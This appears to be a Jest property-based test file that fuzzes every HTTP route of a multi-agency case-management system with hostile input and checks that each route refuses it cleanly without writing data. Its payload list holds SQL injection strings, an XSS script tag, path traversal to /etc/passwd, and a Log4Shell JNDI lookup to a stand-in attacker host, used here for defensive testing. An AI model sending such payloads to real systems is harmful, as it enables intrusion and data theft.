import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { AGENCIES, type Agency } from '@casenet/contracts';
import { devToken, FIXTURE_SCHOOL_CODES, FlowSteps, freeSystemPorts, reportFixture, Rng, RunningSystem } from '@casenet/testing';
import fc from 'fast-check';
import { isUtf8 } from 'node:buffer';
import { randomUUID } from 'node:crypto';
import { validate } from '@readme/openapi-parser';

jest.setTimeout(300_000);

interface ParamSchema {
  type?: string;
  format?: string;
  pattern?: string;
  minimum?: number;
  maximum?: number;
}
interface Operation {
  operationId?: string;
  parameters?: { name: string; in: 'path' | 'query'; schema?: ParamSchema }[];
  requestBody?: { content: Record<string, { schema: { $ref?: string; oneOf?: { $ref?: string }[] } }> };
}
interface OpenApi {
  paths: Record<string, Record<string, Operation>>;
  components: { schemas: Record<string, { properties?: Record<string, unknown> }> };
}
interface Answer {
  status: number;
  contentType: string | null;
  problem: Record<string, unknown> | undefined;
}

const NASTY = [
  "'; DROP TABLE cases; --",
  '" OR 1=1 --',
  "1' UNION SELECT personal FROM cases --",
  '${jndi:ldap://attacker/x}',
  '<script>alert(1)</script>',
  '\u0000',
  '\uD800',
  '\u202Eevil',
  'ℂ𝔸𝕊𝔼 Ⅸ ﷽',
  '../../../../etc/passwd',
  'CR-' + 'A'.repeat(5000),
  '%00%0d%0a',
];
const hostileString = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc.integer({ min: 1000, max: 20_000 }).map((n) => 'Ω'.repeat(n)),
);
const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.integer(),
    fc.double({ noNaN: true }),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.dictionary(hostileString, tie('value'), { maxKeys: 3 }),
  ),
})).value;

/** A body shaped after the route's schema (some of its fields, hostile values) plus stray fields. */
function bodyFor(schema: { properties?: Record<string, unknown> } | undefined): fc.Arbitrary<unknown> {
  const names = Object.keys(schema?.properties ?? {});
  const shaped = names.length > 0 ? fc.record(Object.fromEntries(names.map((n) => [n, hostileValue])), { requiredKeys: [] }) : fc.constant({});
  return fc.oneof(
    fc.tuple(shaped, fc.dictionary(hostileString, hostileValue, { maxKeys: 2 })).map(([a, b]) => ({ ...b, ...a })),
    hostileValue,
  );
}

/** Every byte percent-encoded, so lone surrogates and control characters reach the server as sent. */
function percentEncoded(text: string): string {
  return [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
}

/**
 * What is wrong with an answer as an RFC 9457 problem document (application/problem+json with
 * type, title, status, detail, instance and field errors written one way), or undefined.
 */
function problemShapeFault({ status, contentType, problem }: Answer): string | undefined {
  if (!contentType?.startsWith('application/problem+json')) return `content type ${contentType}`;
  if (!problem) return 'no JSON body';
  for (const key of ['type', 'title', 'detail', 'instance']) if (typeof problem[key] !== 'string') return `no ${key}`;
  if (problem.status !== status) return `status ${String(problem.status)} in the body`;
  const allowed = new Set(['type', 'title', 'status', 'detail', 'instance', 'errors']);
  const stray = Object.keys(problem).filter((k) => !allowed.has(k));
  if (stray.length > 0) return `stray members ${stray.join(', ')}`;
  if (problem.errors !== undefined) {
    if (!Array.isArray(problem.errors)) return 'errors is not a list';
    for (const error of problem.errors as { path?: unknown; message?: unknown }[]) {
      if (typeof error.path !== 'string' || typeof error.message !== 'string') return 'an error without path and message';
      if (/^(body|query|param)\./.test(error.path)) return `field path ${error.path} says where it was sent`;
    }
  }
  return undefined;
}

/**
 * A 4xx that says why, in the one problem shape. Node's HTTP parser itself refuses oversized
 * request lines and headers (414, 431) before the application sees them: those are clear,
 * though they carry no body.
 */
function isClearRejection(answer: Answer): boolean {
  if (answer.status === 414 || answer.status === 431) return true;
  return answer.status >= 400 && answer.status < 500 && problemShapeFault(answer) === undefined;
}

/** Byte sequences that are not UTF-8: stray continuation bytes, overlongs, surrogates, truncations, bytes UTF-8 never uses. */
const invalidUtf8 = fc
  .oneof(
    fc.constantFrom<number[]>(
      [0x80],
      [0xbf],
      [0xc0, 0x80],
      [0xc1, 0xbf],
      [0xe0, 0x80, 0x80],
      [0xed, 0xa0, 0x80],
      [0xed, 0xbf, 0xbf],
      [0xf4, 0x90, 0x80, 0x80],
      [0xf5],
      [0xff],
      [0xfe],
      [0xe2, 0x82],
      [0xf0, 0x9f, 0x98],
    ),
    fc.uint8Array({ minLength: 1, maxLength: 8 }).map((b) => [...b]),
  )
  .filter((bytes) => !isUtf8(Buffer.from(bytes)) && !bytes.includes(0x22) && !bytes.includes(0x5c));

/** Media types that are not JSON, and JSON in a charset other than UTF-8; `null` sends the body unlabelled. */
const wrongContentType = fc.oneof(
  fc.constantFrom<string | null>(
    null,
    'text/plain',
    'text/plain; charset=utf-8',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----casenet',
    'application/xml',
    'text/xml; charset=utf-8',
    'text/html',
    'application/octet-stream',
    'application/javascript',
    'application/jsonl',
    'application/json-patch',
  ),
  fc.constantFrom('latin1', 'iso-8859-1', 'utf-16', 'utf-16le', 'utf-32', 'windows-1252', 'us-ascii', 'x-unknown').map((c) => `application/json; charset=${c}`),
);

/** A JSON value nested `depth` levels (objects or arrays chosen per level), built without recursion. */
function deepJson(depth: number, arrays: boolean[]): string {
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i += 1) {
    const array = arrays[i % arrays.length];
    open += array ? '[' : '{"a":';
    close = (array ? ']' : '}') + close;
  }
  return `${open}1${close}`;
}

/** `value` with `key` set at a random depth of a chain of nested objects under field names of the route. */
function withKeyAtDepth(fields: string[], depth: number, key: string): string {
  let inner = `{"${key}": {"polluted": true}}`;
  for (let i = depth - 1; i >= 0; i -= 1) inner = `{"${fields[i % fields.length] ?? 'x'}": ${inner}}`;
  return inner;
}

type Send = (method: string, path: string, body: string | Uint8Array | undefined, bearer: string | null, contentType?: string | null) => Promise<Answer>;
type Refused = (what: string, answer: Answer, expected?: number) => void;

/** The route's path with well-formed ids, so only what is under test can be refused. */
function wellFormedPath(template: string, params: NonNullable<Operation['parameters']>): string {
  return template.replace(/\{(\w+)\}/g, (_, name: string) => {
    const schema = params.find((p) => p.name === name)?.schema;
    return schema?.pattern ? 'CR-0000000000000000000000000000UNKN' : randomUUID();
  });
}

/**
 * Generated bodies no JSON route may take: nested up to 100k levels, in a media type or charset
 * other than JSON in UTF-8 (or unlabelled), with prototype keys at random depths, holding bytes
 * that are not UTF-8. Each is refused with its own status and the problem shape.
 */
async function hostileBodies(
  template: string,
  schema: { properties?: Record<string, unknown> } | undefined,
  send: Send,
  refused: Refused,
  failures: string[],
  token: string,
): Promise<number> {
  const path = template.replace(/\{(\w+)\}/g, (_, name: string) => (name === 'caseref' ? 'CR-0000000000000000000000000000UNKN' : randomUUID()));
  const fields = Object.keys(schema?.properties ?? {});
  const sample = JSON.stringify(Object.fromEntries(fields.map((f) => [f, 'x'])));
  let tried = 0;
  const runs = { numRuns: 8, seed: 2026 };
  await fc.assert(
    fc.asyncProperty(fc.integer({ min: 33, max: 100_000 }), fc.array(fc.boolean(), { minLength: 1, maxLength: 4 }), async (depth, arrays) => {
      tried += 1;
      const body = deepJson(depth, arrays);
      refused(`POST ${template} nested ${depth} deep`, await send('POST', path, body, token), body.length > 100 * 1024 ? 413 : 400);
    }),
    runs,
  );
  await fc.assert(
    fc.asyncProperty(wrongContentType, fc.oneof(fc.constant(sample), fc.constant('a=1&b=2'), fc.constant('<a>1</a>'), fc.json()), async (contentType, body) => {
      tried += 1;
      refused(`POST ${template} as ${contentType ?? 'unlabelled'}`, await send('POST', path, body, token, contentType), 415);
    }),
    runs,
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom('__proto__', 'constructor', 'prototype'), fc.integer({ min: 0, max: 20 }), async (key, depth) => {
      tried += 1;
      const answer = await send('POST', path, withKeyAtDepth(fields, depth, key), token);
      refused(`POST ${template} with ${key} at depth ${depth}`, answer, 400);
      const errors = (answer.problem?.errors ?? []) as { path: string }[];
      if (!errors.some((e) => e.path.endsWith(key)))
        failures.push(`POST ${template} with ${key} at depth ${depth}: no error names it (${JSON.stringify(errors).slice(0, 120)})`);
    }),
    runs,
  );
  await fc.assert(
    fc.asyncProperty(invalidUtf8, fc.constantFrom(...(fields.length > 0 ? fields : ['x'])), async (bytes, field) => {
      tried += 1;
      const [head, tail] = [`{"${field}": "Giu`, 'lia"}'];
      const body = Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from(tail)]);
      const answer = await send('POST', path, body, token);
      refused(`POST ${template} with bytes ${Buffer.from(bytes).toString('hex')}`, answer, 400);
      if (answer.problem?.type !== 'urn:casenet:problem:invalid-encoding')
        failures.push(`POST ${template} with bytes ${Buffer.from(bytes).toString('hex')}: type ${String(answer.problem?.type)}`);
    }),
    runs,
  );
  return tried;
}

/**
 * Every integer parameter the document declares must be bounded there, and a value past its
 * bounds (up to far beyond PostgreSQL's bigint) is a 400 naming the parameter.
 */
async function integerOverflow(
  method: string,
  template: string,
  params: NonNullable<Operation['parameters']>,
  send: Send,
  refused: Refused,
  failures: string[],
  token: string,
): Promise<number> {
  let tried = 0;
  for (const param of params.filter((p) => p.schema?.type === 'integer' || p.schema?.type === 'number')) {
    const { minimum, maximum } = param.schema ?? {};
    if (minimum === undefined || maximum === undefined) {
      failures.push(`${method.toUpperCase()} ${template}: integer ${param.name} has no bounds in the document`);
      continue;
    }
    const beyond = fc.oneof(
      fc.bigInt({ min: BigInt(maximum) + 1n, max: 10n ** 40n }).map(String),
      fc.bigInt({ min: -(10n ** 40n), max: BigInt(minimum) - 1n }).map(String),
      fc.constantFrom('9223372036854775808', '-9223372036854775809', '1e400', '9'.repeat(400), String(Number.MAX_SAFE_INTEGER + 2)),
    );
    await fc.assert(
      fc.asyncProperty(beyond, async (value) => {
        tried += 1;
        const path = `${wellFormedPath(template, params)}?${new URLSearchParams({ [param.name]: value }).toString()}`;
        const answer = await send(method.toUpperCase(), path, undefined, token);
        refused(`${method.toUpperCase()} ${template} ${param.name}=${value.slice(0, 40)}`, answer, 400);
        const errors = (answer.problem?.errors ?? []) as { path: string }[];
        if (!errors.some((e) => e.path === param.name))
          failures.push(`${method.toUpperCase()} ${template} ${param.name}=${value.slice(0, 40)}: no error names ${param.name}`);
      }),
      { numRuns: 10, seed: 2026 },
    );
  }
  return tried;
}

/**
 * Every HTTP route of every service, fed generated hostile input: missing, extra and wrong-typed
 * fields, huge and odd Unicode, SQL-like strings, malformed JSON, oversized bodies, bad tokens.
 * Only clear 4xx answers, never a 5xx, and nothing written.
 */
describe('hostile input on every HTTP route', () => {
  let system: RunningSystem;
  let seeded: string;
  const counts: string[] = [];

  beforeAll(async () => {
    system = await RunningSystem.start({ namespace: `t_hostile_http_${process.pid}`, ports: await freeSystemPorts(), dropDatabasesOnStop: true });
    // Some real data, so a stray write or a leaking query would have something to touch.
    const flow = new FlowSteps(system);
    const report = await flow.file(reportFixture(new Rng(3), { concerns: ['bullying'] }));
    await flow.caseAt(report.caseref, 'screening');
    // Until the status is back at the school, its inbox is still changing: wait, then snapshot.
    await flow.schoolSees(report.id, 'received');
    seeded = report.caseref;
  });

  it('refuses NUL characters with a 400 instead of failing in the database', async () => {
    const supervisor = system.client('municipality', ['supervisor']);
    const response = await supervisor.post<{ errors: unknown[] }>(`/cases/${seeded}/assignment`, { assignee: 'caseworker\u0000x' });
    expect(response.status).toBe(400);
    expect(response.body.errors).toEqual([{ path: 'assignee', message: 'must not contain NUL characters' }]);
    expect((await supervisor.post(`/cases/${seeded}/assignment`, { assignee: 'caseworker-x' })).status).toBe(200);
  });

  it.each(AGENCIES)('%s publishes a valid OpenAPI document of its API only, with typed ids and bounded integers', async (agency) => {
    const base = system.services[agency].baseUrl;
    const document = (await (await fetch(`${base}/openapi.json`)).json()) as OpenApi;
    // A parser other tools build clients with: throws on any structural fault.
    await validate(structuredClone(document) as Parameters<typeof validate>[0]);
    const refs = new Set([...JSON.stringify(document.paths).matchAll(/"#\/components\/schemas\/([^"]+)"/g)].map((m) => m[1]));
    for (let grew = true; grew;) {
      grew = false;
      for (const name of [...refs]) {
        for (const m of JSON.stringify(document.components.schemas[name as string] ?? {}).matchAll(/"#\/components\/schemas\/([^"]+)"/g)) {
          if (!refs.has(m[1])) grew = refs.add(m[1]) !== undefined;
        }
      }
    }
    expect(Object.keys(document.components.schemas).filter((name) => !refs.has(name))).toEqual([]); // nothing internal
    const untyped: string[] = [];
    for (const [template, methods] of Object.entries(document.paths)) {
      for (const [method, operation] of Object.entries(methods)) {
        for (const param of operation.parameters ?? []) {
          const schema = param.schema ?? {};
          if (!schema.type) untyped.push(`${method} ${template} ${param.name} has no type`);
          if (param.in === 'path' && schema.format !== 'uuid' && !schema.pattern) untyped.push(`${method} ${template} ${param.name}`);
          if ((schema.type === 'integer' || schema.type === 'number') && (schema.minimum === undefined || schema.maximum === undefined))
            untyped.push(`${method} ${template} ${param.name} unbounded`);
        }
      }
    }
    expect(untyped).toEqual([]);
  });

  it.each(AGENCIES)('%s closes /metrics to all but auditors, sends security headers, answers unknown routes with a problem', async (agency) => {
    const base = system.services[agency].baseUrl;
    expect((await fetch(`${base}/metrics`)).status).toBe(401);
    expect((await fetch(`${base}/metrics`, { headers: { authorization: `Bearer ${await devToken(agency, ['caseworker'])}` } })).status).toBe(403);
    const metrics = await fetch(`${base}/metrics`, { headers: { authorization: `Bearer ${await devToken(agency, ['auditor'])}` } });
    expect(metrics.status).toBe(200);
    expect(await metrics.text()).toMatch(/^casenet_outbox_waiting /m);

    const docs = await fetch(`${base}/docs`);
    expect(docs.status).toBe(200);
    expect(docs.headers.get('x-powered-by')).toBeNull();
    const csp = docs.headers.get('content-security-policy') ?? '';
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).not.toMatch(/upgrade-insecure-requests/); // served over plain HTTP behind the ingress
    expect(docs.headers.get('x-content-type-options')).toBe('nosniff');
    // Swagger UI runs under that policy: every script is a file of this origin, none inline.
    const html = await docs.text();
    const scripts = [...html.matchAll(/<script([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(scripts.length).toBeGreaterThan(0);
    for (const [, attributes, inline] of scripts) {
      expect(inline?.trim()).toBe('');
      const src = /src="([^"]+)"/.exec(attributes ?? '')?.[1] ?? '';
      expect(src).not.toMatch(/^(https?:)?\/\//);
      expect((await fetch(new URL(src, `${base}/docs`))).status).toBe(200); // resolved as the browser does, against the page
    }

    const unknown = await fetch(`${base}/no-such-route/${randomUUID()}`, { headers: { authorization: `Bearer ${await devToken(agency, ['supervisor'])}` } });
    const answer: Answer = {
      status: unknown.status,
      contentType: unknown.headers.get('content-type'),
      problem: (await unknown.json()) as Record<string, unknown>,
    };
    expect(answer.status).toBe(404);
    expect(problemShapeFault(answer)).toBeUndefined();
    expect(unknown.headers.get('x-powered-by')).toBeNull();
  });

  afterAll(async () => {
    process.stdout.write(`hostile HTTP inputs per route:\n${counts.join('\n')}\n`);
    await system?.stop();
  });

  async function rowCounts(agency: Agency): Promise<Record<string, number>> {
    const tables = await system.query<{ name: string }>(agency, `SELECT tablename AS name FROM pg_tables WHERE schemaname = 'public'`);
    const result: Record<string, number> = {};
    // Reads of real cases are logged on purpose; everything else must stay as it was.
    for (const { name } of tables) if (name !== 'access_log') result[name] = await system.count(agency, `SELECT count(*)::int AS n FROM "${name}"`);
    return result;
  }

  it.each(AGENCIES)('%s answers every hostile request with a clear 4xx and writes nothing', async (agency) => {
    const before = await rowCounts(agency);
    // At schools, a supervisor of every school the fixtures file for who also holds the school office's role (its
    // survey routes are its own); at the court, one who also holds the prosecutor's role (the prosecutor's desk is
    // its own role, ADR 0021): the hostile input must reach the handlers.
    const roles = agency === 'court' ? ['supervisor', 'prosecutor'] : agency === 'schools' ? ['supervisor', 'ust'] : ['supervisor'];
    const token = await devToken(agency, roles, agency === 'schools' ? { schoolCodes: [...FIXTURE_SCHOOL_CODES] } : {});
    const base = system.services[agency].baseUrl;
    const spec = (await (await fetch(`${base}/openapi.json`)).json()) as OpenApi;
    const failures: string[] = [];
    /** `contentType` null sends the body unlabelled (fetch labels strings text/plain: bytes go as they are). */
    const send = async (
      method: string,
      path: string,
      body: string | Uint8Array | undefined,
      bearer: string | null,
      contentType: string | null = 'application/json',
    ): Promise<Answer> => {
      const response = await fetch(`${base}${path}`, {
        method,
        headers: {
          ...(bearer ? { authorization: `Bearer ${bearer}` } : {}),
          ...(body === undefined || contentType === null ? {} : { 'content-type': contentType }),
        },
        body: contentType === null && typeof body === 'string' ? Buffer.from(body) : body,
      });
      const text = await response.text();
      let problem: Record<string, unknown> | undefined;
      try {
        problem = JSON.parse(text) as Record<string, unknown>;
      } catch {
        problem = undefined;
      }
      return { status: response.status, contentType: response.headers.get('content-type'), problem };
    };
    const refused = (what: string, answer: Answer, expected?: number) => {
      const fault = problemShapeFault(answer);
      if (expected !== undefined && answer.status !== expected)
        failures.push(`${what} → ${answer.status}, expected ${expected}: ${JSON.stringify(answer.problem)?.slice(0, 160)}`);
      else if (!isClearRejection(answer)) failures.push(`${what} → ${answer.status} ${fault ?? ''} ${JSON.stringify(answer.problem)?.slice(0, 160)}`);
    };

    for (const [template, methods] of Object.entries(spec.paths)) {
      for (const [method, operation] of Object.entries(methods)) {
        if (template === '/health') continue;
        const params = operation.parameters ?? [];
        const bodySchema = Object.values(operation.requestBody?.content ?? {})[0]?.schema;
        // A body of several shapes (`oneOf`, e.g. a report by kind) is fuzzed with the fields of all of them.
        const refs = [bodySchema?.$ref, ...(bodySchema?.oneOf ?? []).map((one) => one.$ref)].filter((r): r is string => typeof r === 'string');
        const schema = refs.length
          ? { properties: Object.assign({}, ...refs.map((r) => spec.components.schemas[r.split('/').pop() as string]?.properties ?? {})) }
          : undefined;
        const request = fc.record({
          path: fc.record(Object.fromEntries(params.filter((p) => p.in === 'path').map((p) => [p.name, hostileString]))),
          query: fc.dictionary(fc.constantFrom(...params.filter((p) => p.in === 'query').map((p) => p.name), 'stray'), hostileString, { maxKeys: 3 }),
          body: method === 'post' ? bodyFor(schema).map((b) => JSON.stringify(b)) : fc.constant(undefined),
          token: fc.oneof(
            { weight: 9, arbitrary: fc.constant<string | null>(token) },
            { weight: 1, arbitrary: fc.oneof(fc.constant(null), fc.string({ maxLength: 300 })) },
          ),
        });
        let tried = 0;
        await fc.assert(
          fc.asyncProperty(request, async (input) => {
            tried += 1;
            const path = template.replace(/\{(\w+)\}/g, (_, name: string) => percentEncoded(String(input.path[name] ?? 'x')));
            const query = new URLSearchParams(input.query as Record<string, string>).toString();
            const answer = await send(method.toUpperCase(), `${path}${query ? `?${query}` : ''}`, input.body, input.token);
            const clear = isClearRejection(answer);
            const acceptableRead = method === 'get' && answer.status === 200;
            if (!clear && !acceptableRead)
              failures.push(
                `${method.toUpperCase()} ${template} → ${answer.status} ${problemShapeFault(answer) ?? ''} ${JSON.stringify(answer.problem)?.slice(0, 120)} for ${JSON.stringify(input).slice(0, 300)}`,
              );
          }),
          { numRuns: 30, seed: 2026 },
        );
        // Fixed cases beyond the generator: malformed JSON and a body over the size limit.
        if (method === 'post') {
          const path = template.replace(/\{(\w+)\}/g, 'x');
          for (const body of ['{"pupil": {"firstName": "Giu', '\u0000\u0001', JSON.stringify({ notes: 'x'.repeat(2_000_000) })]) {
            tried += 1;
            refused(`POST ${template} with a ${body.length}-byte raw body`, await send('POST', path, body, token));
          }
          tried += await hostileBodies(template, schema, send, refused, failures, token);
        }
        tried += await integerOverflow(method, template, params, send, refused, failures, token);
        counts.push(`  ${agency.padEnd(12)} ${method.toUpperCase().padEnd(5)} ${template.padEnd(55)} ${tried}`);
      }
    }
    expect(failures.slice(0, 10).map((f) => f.slice(0, 300))).toEqual([]);
    expect(await rowCounts(agency)).toEqual(before); // no half-written change anywhere
  });
});
